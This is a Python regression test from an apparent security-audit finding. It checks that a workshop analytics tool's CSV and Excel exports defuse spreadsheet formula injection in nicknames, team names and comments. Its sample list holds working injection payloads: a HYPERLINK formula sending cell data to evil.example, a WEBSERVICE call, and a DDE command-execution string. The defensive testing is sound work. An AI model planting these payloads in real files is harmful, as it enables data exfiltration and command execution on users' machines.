"""Finding 2: formula injection in CSV and Excel exports. Hostile nicknames, team names, free-text answers and
evaluation comments must come out as text."""
import csv
import io

import openpyxl
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from itlead.workshop.analytics import FORMULA_TRIGGERS, neutralise, to_csv, to_excel

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=WEBSERVICE(\"http://evil.example\")",
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"]


def _responses() -> pd.DataFrame:
    return pd.DataFrame({"person": HOSTILE, "team": HOSTILE[::-1], "item": ["q1"] * len(HOSTILE),
                         "fraction": [0.5, -0.25, 1, 0, 1, 0, 1, 0], "response": HOSTILE})


def _evaluation() -> pd.DataFrame:
    return pd.DataFrame({"respondent": ["participant 1"] * len(HOSTILE), "item": ["comments"] * len(HOSTILE),
                         "response": HOSTILE})


def test_no_excel_cell_is_a_formula():
    data = to_excel({"responses": _responses(), "workshop-evaluation": _evaluation()})
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    seen = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                seen.append(cell.value)
    # the text is kept, as text: responses!F4 and workshop-evaluation!C8 held formulas in the probe
    assert HOSTILE[0] in seen and HOSTILE[1] in seen
    assert workbook["responses"]["D3"].value == -0.25  # numbers stay numbers


def test_no_csv_cell_starts_a_formula():
    rows = list(csv.reader(io.StringIO(to_csv(_responses()).decode("utf-8"), newline="")))
    for row in rows[1:]:
        for value in row[:3] + row[4:]:  # all but the numeric fraction
            assert not value.startswith(FORMULA_TRIGGERS), value
    assert rows[1][0] == "'" + HOSTILE[0]
    assert rows[2][3] == "-0.25"  # a number is not text, and stays a number


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_neutralise_never_leaves_a_trigger(text):
    out = neutralise(text)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert out in (text, "'" + text)
